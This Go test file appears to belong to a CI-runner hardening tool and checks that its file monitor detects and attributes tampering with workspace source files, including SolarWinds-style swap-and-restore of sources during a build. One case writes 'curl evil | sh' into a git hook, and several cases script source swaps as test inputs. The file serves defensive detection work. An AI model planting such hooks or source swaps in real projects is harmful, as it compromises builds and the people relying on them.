package filemon

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/harden-runner/harden-runner/event"
)

var baseFiles = map[string]string{
	"README.md":      "# project\n",
	"src/a.txt":      "alpha\nbeta\ngamma\n",
	"src/b.txt":      "bravo\n",
	"src/c.txt":      "charlie\n",
	"src/deep/d.txt": "delta\n",
}

// want is one File record a case expects.
type want struct {
	path string
	op   event.FileOp
	prog string // base name of the writer's executable
	// gated: the writer opened the file, so the gate guarantees its name.
	// Otherwise (rm, mv, unlink by path) the name is best effort and the
	// pid is what must be right.
	gated bool
}

// gitInit makes root a git repository with one commit, as the workload's
// user (git refuses repositories owned by someone else).
func gitInit(t *testing.T, root string) {
	// Files older than the index are clean for git; files as new as the
	// index (same timestamp tick) are racily clean and have no known blob.
	old := time.Now().Add(-time.Hour)
	for p := range baseFiles {
		if err := os.Chtimes(filepath.Join(root, p), old, old); err != nil {
			t.Fatal(err)
		}
	}
	workload(t, root, "git", "init", "-q")
	workload(t, root, "git", "add", "-A")
	workload(t, root, "git", "commit", "-q", "-m", "base")
}

func TestTamper(t *testing.T) {
	needRoot(t)
	cases := []struct {
		name  string
		setup func(t *testing.T, root string)
		// run does the tampering and returns the expected pid per path
		// (0: a child of the workload, not checked).
		run  func(t *testing.T, root string) map[string]int
		want []want
		// wantInotify, if set, is what is expected without fanotify.
		wantInotify []want
		// fanotifyOnly: the change is invisible to inotify (made outside
		// the workspace); without fanotify only the final rescan finds it.
		fanotifyOnly bool
	}{
		{
			name: "sed -i",
			run: func(t *testing.T, root string) map[string]int {
				return map[string]int{"src/a.txt": workload(t, root, "sed", "-i", "s/alpha/ALPHA/", "src/a.txt")}
			},
			want: []want{{"src/a.txt", event.Overwrite, "sed", true}},
		},
		{
			name: "shell append",
			run: func(t *testing.T, root string) map[string]int {
				return map[string]int{"src/a.txt": workload(t, root, "sh", "-c", "echo injected >> src/a.txt")}
			},
			want: []want{{"src/a.txt", event.Overwrite, "dash", true}},
		},
		{
			name: "shell shorter rewrite",
			run: func(t *testing.T, root string) map[string]int {
				return map[string]int{"src/a.txt": workload(t, root, "sh", "-c", "echo x > src/a.txt")}
			},
			// fanotify sees a write: the content was replaced. inotify cannot
			// tell, and judges by size.
			want:        []want{{"src/a.txt", event.Overwrite, "dash", true}},
			wantInotify: []want{{"src/a.txt", event.Truncate, "dash", true}},
		},
		{
			name: "shell truncation without a write",
			run: func(t *testing.T, root string) map[string]int {
				return map[string]int{"src/a.txt": workload(t, root, "sh", "-c", ": > src/a.txt")}
			},
			want: []want{{"src/a.txt", event.Truncate, "dash", true}},
		},
		{
			// The truncating process hands its descriptor to a child and
			// exits; the child's close is the last. The truncation is the
			// parent's (the modify group saw it), not the closer's.
			name: "truncated, descriptor closed by a child",
			run: func(t *testing.T, root string) map[string]int {
				workload(t, root, "sh", "-c", `perl -e '$^F = 10; open(F, "+<", "src/a.txt") or die; truncate(F, 1) or die; exec("sleep", "0.2") if fork() == 0' && sleep 0.5`)
				return nil
			},
			want: []want{{"src/a.txt", event.Truncate, "perl", true}},
		},
		{
			name: "truncate",
			run: func(t *testing.T, root string) map[string]int {
				return map[string]int{"src/a.txt": workload(t, root, "truncate", "-s0", "src/a.txt")}
			},
			want: []want{{"src/a.txt", event.Truncate, "truncate", true}},
		},
		{
			name: "python in-place write",
			run: func(t *testing.T, root string) map[string]int {
				return map[string]int{"src/a.txt": workload(t, root, "/usr/bin/python3", "-c",
					"f = open('src/a.txt', 'r+b'); f.write(b'ALPHA'); f.close()")}
			},
			want: []want{{"src/a.txt", event.Overwrite, "python3.11", true}},
		},
		{
			// No write(2), so no FAN_MODIFY: seen when python closes the
			// file (with fanotify), or by the final rescan (without).
			name: "python write through a shared mapping",
			run: func(t *testing.T, root string) map[string]int {
				return map[string]int{"src/a.txt": workload(t, root, "/usr/bin/python3", "-c",
					"import mmap; f = open('src/a.txt', 'r+b'); m = mmap.mmap(f.fileno(), 0); m[0:5] = b'ALPHA'; m.flush(); m.close(); f.close()")}
			},
			want: []want{{"src/a.txt", event.Overwrite, "python3.11", true}},
		},
		{
			// The same, with the times set back before the close: size and
			// mtime are as at the baseline; the change time still moved.
			name: "python write through a shared mapping, mtime set back",
			run: func(t *testing.T, root string) map[string]int {
				return map[string]int{"src/a.txt": workload(t, root, "/usr/bin/python3", "-c",
					"import mmap, os; st = os.stat('src/a.txt'); f = open('src/a.txt', 'r+b'); m = mmap.mmap(f.fileno(), 0); m[0:5] = b'ALPHA'; m.flush(); m.close(); os.utime('src/a.txt', ns=(st.st_atime_ns, st.st_mtime_ns)); f.close()")}
			},
			want: []want{{"src/a.txt", event.Overwrite, "python3.11", true}},
			// inotify has no close-after-write here, and the change time
			// alone counts only where a git blob can decide.
			wantInotify: []want{},
		},
		{
			name:  "the same in a git checkout",
			setup: gitInit,
			run: func(t *testing.T, root string) map[string]int {
				return map[string]int{"src/a.txt": workload(t, root, "/usr/bin/python3", "-c",
					"import mmap, os; st = os.stat('src/a.txt'); f = open('src/a.txt', 'r+b'); m = mmap.mmap(f.fileno(), 0); m[0:5] = b'ALPHA'; m.flush(); m.close(); os.utime('src/a.txt', ns=(st.st_atime_ns, st.st_mtime_ns)); f.close()")}
			},
			want: []want{{"src/a.txt", event.Overwrite, "python3.11", true}},
			// The change time alone is no sign of a write at the final
			// rescan (a chmod moves it too), and inotify has no close.
			wantInotify: []want{},
		},
		{
			name:  "chmod and touch -a in a git checkout",
			setup: gitInit,
			run: func(t *testing.T, root string) map[string]int {
				workload(t, root, "sh", "-c", "chmod +x src/a.txt && touch -a src/a.txt && mv src/a.txt src/.a && mv src/.a src/a.txt")
				return nil
			},
			want: nil,
		},
		{
			name: "perl -i",
			run: func(t *testing.T, root string) map[string]int {
				return map[string]int{"src/a.txt": workload(t, root, "perl", "-pi", "-e", "s/beta/BETA/", "src/a.txt")}
			},
			want: []want{{"src/a.txt", event.Overwrite, "perl", true}},
		},
		{
			name: "rm",
			run: func(t *testing.T, root string) map[string]int {
				return map[string]int{"src/a.txt": workload(t, root, "rm", "src/a.txt")}
			},
			want: []want{{"src/a.txt", event.Delete, "rm", false}},
		},
		{
			// SUNSPOT (SolarWinds): the source is swapped for the attacker's
			// while the build reads it, and put back after. The original
			// inode is back at its name, so its own state says nothing.
			name: "swapped for another file and restored",
			run: func(t *testing.T, root string) map[string]int {
				workload(t, root, "sh", "-c", "ln src/a.txt src/.a.keep && printf evil > src/e && mv src/e src/a.txt && cat src/a.txt >/dev/null && mv src/.a.keep src/a.txt")
				return nil
			},
			want: []want{{"src/a.txt", event.Overwrite, "mv", false}},
		},
		{
			name: "moved away, another put there, moved back",
			run: func(t *testing.T, root string) map[string]int {
				workload(t, root, "sh", "-c", "mv src/a.txt src/.a.keep && printf evil > src/a.txt && cat src/a.txt >/dev/null && mv src/.a.keep src/a.txt")
				return nil
			},
			want: []want{{"src/a.txt", event.Overwrite, "dash", false}},
		},
		{
			// The same with the whole directory: another src/ while the
			// build reads it, the original put back after.
			name: "directory swapped for another and restored",
			run: func(t *testing.T, root string) map[string]int {
				workload(t, root, "sh", "-c", "mv src .src.keep && mkdir src && printf evil > src/a.txt && cat src/a.txt >/dev/null && rm -r src && mv .src.keep src")
				return nil
			},
			// Every file under it: each of their paths led to another file
			// or to none in between.
			want: []want{{"src/a.txt", event.Overwrite, "mkdir", false}, {"src/b.txt", event.Overwrite, "mkdir", false},
				{"src/c.txt", event.Overwrite, "mkdir", false}, {"src/deep/d.txt", event.Overwrite, "mkdir", false}},
		},
		{
			name: "directory swapped for a symlink and restored",
			run: func(t *testing.T, root string) map[string]int {
				workload(t, root, "sh", "-c", "mkdir -p /tmp/hr-evil-$$ && mv src .src.keep && ln -s /tmp/hr-evil-$$ src && ls src/ >/dev/null && rm src && mv .src.keep src && rm -r /tmp/hr-evil-$$")
				return nil
			},
			want: []want{{"src/a.txt", event.Overwrite, "ln", false}, {"src/b.txt", event.Overwrite, "ln", false},
				{"src/c.txt", event.Overwrite, "ln", false}, {"src/deep/d.txt", event.Overwrite, "ln", false}},
		},
		{
			name: "directory moved away and back",
			run: func(t *testing.T, root string) map[string]int {
				workload(t, root, "sh", "-c", "mv src .src.keep && mv .src.keep src")
				return nil
			},
			want: nil,
		},
		{
			name: "moved away and back",
			run: func(t *testing.T, root string) map[string]int {
				workload(t, root, "sh", "-c", "mv src/a.txt src/.a.keep && mv src/.a.keep src/a.txt")
				return nil
			},
			want: nil,
		},
		{
			name: "mv away",
			run: func(t *testing.T, root string) map[string]int {
				return map[string]int{"src/a.txt": workload(t, root, "mv", "src/a.txt", "src/moved.txt")}
			},
			want: []want{{"src/a.txt", event.Rename, "mv", false}},
		},
		{
			name: "mv over another",
			run: func(t *testing.T, root string) map[string]int {
				pid := workload(t, root, "mv", "src/b.txt", "src/c.txt")
				return map[string]int{"src/b.txt": pid, "src/c.txt": pid}
			},
			want: []want{{"src/b.txt", event.Rename, "mv", false}, {"src/c.txt", event.Overwrite, "mv", false}},
		},
		{
			name: "directory renamed away",
			run: func(t *testing.T, root string) map[string]int {
				pid := workload(t, root, "mv", "src/deep", "elsewhere")
				return map[string]int{"src/deep/d.txt": pid}
			},
			want: []want{{"src/deep/d.txt", event.Rename, "mv", false}},
		},
		{
			name: "renamed away then written",
			run: func(t *testing.T, root string) map[string]int {
				workload(t, root, "sh", "-c", "mv src/a.txt moved.txt && echo more >> moved.txt")
				return nil
			},
			want: []want{{"src/a.txt", event.Overwrite, "dash", true}, {"src/a.txt", event.Rename, "mv", false}},
		},
		{
			name: "written through a hard link outside the workspace",
			setup: func(t *testing.T, root string) {
				if err := os.Link(filepath.Join(root, "src/a.txt"), filepath.Join(root, "../outside")); err != nil {
					t.Fatal(err)
				}
				if err := os.Chmod(filepath.Dir(root), 0o777); err != nil {
					t.Fatal(err)
				}
			},
			run: func(t *testing.T, root string) map[string]int {
				return map[string]int{"src/a.txt": workload(t, root, "sh", "-c", "echo more >> ../outside")}
			},
			want:         []want{{"src/a.txt", event.Overwrite, "dash", true}},
			fanotifyOnly: true,
		},
		{
			name: "new files are not reported",
			run: func(t *testing.T, root string) map[string]int {
				workload(t, root, "sh", "-c", `mkdir -p out/x node_modules/y target && echo 1 > out/x/f && echo 2 > src/new.txt &&
					echo 3 > node_modules/y/z.js && rm out/x/f && mv src/new.txt src/new2.txt && echo 4 >> src/new2.txt &&
					truncate -s0 src/new2.txt && mv target target2 && rm -r node_modules`)
				return nil
			},
		},
		{
			// touch opens for writing and changes the mtime, but not the
			// content, which still hashes to its blob in the git index.
			name:  "touch of a clean tracked file is not a change",
			setup: gitInit,
			run: func(t *testing.T, root string) map[string]int {
				workload(t, root, "touch", "src/a.txt", "src/b.txt")
				return nil
			},
		},
		{
			name:  "git checkout of a changed file",
			setup: gitCheckoutSetup,
			run: func(t *testing.T, root string) map[string]int {
				return map[string]int{"src/a.txt": workload(t, root, "git", "checkout", "--", "src/a.txt")}
			},
			want: []want{{"src/a.txt", event.Overwrite, "git", false}},
		},
		{
			name:  "git config and hooks, not git internals",
			setup: gitInit,
			run: func(t *testing.T, root string) map[string]int {
				cfg := workload(t, root, "git", "config", "user.name", "mallory")
				hook := workload(t, root, "sh", "-c", "echo 'curl evil | sh' >> .git/hooks/pre-commit.sample")
				// Normal use rewrites .git/index, refs, objects, logs: not reported.
				workload(t, root, "sh", "-c", "echo new > src/new.txt && git add src/new.txt && git commit -q -m more && git gc -q")
				return map[string]int{".git/config": cfg, ".git/hooks/pre-commit.sample": hook}
			},
			// .git/config and hooks changes are steering (event.Steer, see
			// TestSteeringFiles), not tampering; git's internals neither.
			want: nil,
		},
		{
			name: "tampering during a burst of new files",
			run: func(t *testing.T, root string) map[string]int {
				workload(t, root, "sh", "-c", `mkdir -p out; i=0; while [ $i -lt 3000 ]; do
					echo $i > out/f$i; echo $i > src/gen$i
					if [ $i = 1500 ]; then sed -i s/alpha/X/ src/a.txt; fi
					i=$((i+1)); done; truncate -s0 src/b.txt; rm -r out`)
				return nil
			},
			want: []want{{"src/a.txt", event.Overwrite, "sed", true}, {"src/b.txt", event.Truncate, "truncate", true}},
		},
	}
	for _, mode := range []string{"fanotify", "inotify-only"} {
		for _, tc := range cases {
			t.Run(mode+"/"+tc.name, func(t *testing.T) {
				root := treeForTest(t, baseFiles)
				if tc.setup != nil {
					tc.setup(t, root)
				}
				m, rec := startForTest(t, Config{Root: root, NoFanotify: mode != "fanotify"})
				pids := tc.run(t, root)
				if err := m.Close(); err != nil {
					t.Fatal(err)
				}
				w := tc.want
				if mode != "fanotify" && tc.wantInotify != nil {
					w = tc.wantInotify
				}
				checkFiles(t, rec, w, pids, mode == "fanotify", tc.fanotifyOnly)
			})
		}
	}
}

// gitCheckoutSetup makes a repository and changes a tracked file before
// monitoring starts: the changed file is the baseline, and the checkout
// that restores it is the tampering.
func gitCheckoutSetup(t *testing.T, root string) {
	gitInit(t, root)
	if err := os.WriteFile(filepath.Join(root, "src/a.txt"), []byte("locally changed\n"), 0o666); err != nil {
		t.Fatal(err)
	}
}

// checkFiles compares the File records with want: exactly these (path,
// kind) pairs, each once, with the right process.
func checkFiles(t *testing.T, rec *recorder, wants []want, pids map[string]int, fanotify, fanotifyOnly bool) {
	t.Helper()
	got := rec.files()
	var gotKeys, wantKeys []string
	for _, f := range got {
		gotKeys = append(gotKeys, f.Path+" "+string(f.Event))
	}
	for _, w := range wants {
		wantKeys = append(wantKeys, w.path+" "+string(w.op))
	}
	if fmt.Sprint(sortedCopy(gotKeys)) != fmt.Sprint(sortedCopy(wantKeys)) {
		t.Fatalf("reported %v, want %v%s", gotKeys, wantKeys, describe(got))
	}
	unattributed := 0
	for _, w := range wants {
		var f event.File
		for _, g := range got {
			if g.Path == w.path && g.Event == w.op {
				f = g
			}
		}
		if f.Time.IsZero() {
			t.Errorf("%s %s: no time", w.op, w.path)
		}
		if !identified(f.Process) {
			unattributed++
		}
		switch {
		case !fanotify:
			if f.Process.PID != 0 || f.Process.Unknown == "" {
				t.Errorf("%s %s without fanotify: process %+v, want unknown with a reason", w.op, w.path, f.Process)
			}
		case fanotifyOnly || w.gated:
			if program(f.Process) != w.prog {
				t.Errorf("%s %s: process %q (%+v), want %s", w.op, w.path, program(f.Process), f.Process, w.prog)
			}
		default:
			if identified(f.Process) && program(f.Process) != w.prog {
				t.Errorf("%s %s: process %q, want %s", w.op, w.path, program(f.Process), w.prog)
			}
			if !identified(f.Process) {
				if f.Process.Unknown == "" {
					t.Errorf("%s %s: unidentified process without a reason: %+v", w.op, w.path, f.Process)
				}
				t.Logf("%s %s: %s exited before it was identified (pid %d)", w.op, w.path, w.prog, f.Process.PID)
			}
		}
		if want := pids[w.path]; fanotify && want != 0 && f.Process.PID != want && !(fanotifyOnly && !fanotify) {
			t.Errorf("%s %s: pid %d, want %d", w.op, w.path, f.Process.PID, want)
		}
		if fanotify && identified(f.Process) && f.Process.UID != 65534 {
			t.Errorf("%s %s: uid %d, want 65534", w.op, w.path, f.Process.UID)
		}
		if fanotify && identified(f.Process) && len(f.Process.Parents) == 0 {
			t.Errorf("%s %s: no parent chain", w.op, w.path)
		}
	}
	st := rec.stats()
	if len(st) != 1 {
		t.Fatalf("%d stats records, want 1", len(st))
	}
	// Steering records (git's config and hooks) count as events too.
	events := len(wants)
	for _, s := range rec.steers() {
		events++
		if !identified(s.Process) {
			unattributed++
		}
	}
	if st[0].Component != "filemon" || st[0].Events != uint64(events) || st[0].Unattributed != uint64(unattributed) {
		t.Errorf("stats %+v, want %d events, %d unattributed", st[0], events, unattributed)
	}
	if st[0].Lost != 0 {
		t.Errorf("stats %+v: lost events in a quiet test (notes: %s)", st[0], strings.Join(rec.notes(), "; "))
	}
}

func sortedCopy(s []string) []string {
	c := append([]string(nil), s...)
	for i := range c {
		for j := i + 1; j < len(c); j++ {
			if c[j] < c[i] {
				c[i], c[j] = c[j], c[i]
			}
		}
	}
	return c
}

// TestLaterWriterReported: a file a build tool rewrites (reported) and
// then another program rewrites is reported for both; one report per
// (path, kind) for the whole job let the first, benign one hide the
// second. The same program again is not reported twice.
func TestLaterWriterReported(t *testing.T) {
	needRoot(t)
	root := treeForTest(t, baseFiles)
	// The kernel's table names every writer, as the agent runs it: a
	// change by a writer that went unnamed is not reported again after a
	// named one (it may be the same change seen late), which is not what
	// this test is about.
	m, rec := startForTest(t, Config{Root: root, NoOpenGate: true, Process: lineageFinderForTest(t)})
	workload(t, root, "sed", "-i", "s/alpha/ALPHA/", "src/a.txt")
	time.Sleep(1500 * time.Millisecond) // settled and reported
	workload(t, root, "sed", "-i", "s/ALPHA/alpha/", "src/a.txt")
	time.Sleep(1500 * time.Millisecond)
	workload(t, root, "perl", "-pi", "-e", "s/alpha/evil/", "src/a.txt")
	if err := m.Close(); err != nil {
		t.Fatal(err)
	}
	var progs []string
	for _, f := range rec.files() {
		if f.Path == "src/a.txt" && f.Event == event.Overwrite {
			progs = append(progs, program(f.Process))
		}
	}
	if fmt.Sprint(progs) != "[sed perl]" {
		t.Errorf("overwrites of src/a.txt reported by %v, want [sed perl]%s", progs, describe(rec.files()))
	}
}
